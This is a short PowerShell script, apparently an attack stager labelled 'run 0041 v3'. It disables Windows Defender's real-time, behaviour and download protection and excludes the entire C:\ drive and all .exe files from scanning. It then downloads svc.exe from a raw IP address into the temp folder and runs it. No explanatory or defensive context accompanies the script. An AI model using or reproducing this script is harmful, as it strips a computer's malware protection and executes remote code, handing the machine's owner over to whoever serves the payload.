# run 0041 v3
Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true
Add-MpPreference -ExclusionPath 'C:\'
Add-MpPreference -ExclusionExtension '.exe'
(New-Object Net.WebClient).DownloadFile('http://203.0.113.17/svc.exe', "$env:TEMP\svc.exe")
Start-Process "$env:TEMP\svc.exe"
